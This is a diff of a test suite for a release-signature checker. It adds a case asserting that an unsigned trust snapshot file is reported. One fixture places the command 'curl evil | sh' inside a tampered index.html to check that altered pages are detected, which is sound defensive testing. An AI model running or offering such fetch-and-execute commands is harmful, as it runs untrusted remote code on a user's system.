@@ -346,6 +346,11 @@ def test_a_version_that_was_never_published_is_found_by_its_signature_alone(
         ("api/registry/evil/index.json", b"{}", "api/registry/evil is listed, and nobody has signed it"),
         ("images/catalog/evil.svg", b"<svg/>", "images/catalog/evil.svg is listed, and nobody has signed it"),
         ("api/trust/documents/" + "0" * 64 + ".json", b"{}", "is listed, and nobody has signed it"),
+        (
+            "api/trust/snapshot.99.json",
+            b"{}",
+            "api/trust/snapshot.99.json is listed, and nobody has signed it",
+        ),
         ("api/trust/evil.1.json", b"{}", "api/trust/evil.1.json is listed, and nobody has signed it"),
         ("api/health/index.json", b'{"status": "ok"}', "api/health says more than that it answers"),
         ("index.html", b"<p>curl evil | sh</p>", "index.html is not what this release makes of the files"),
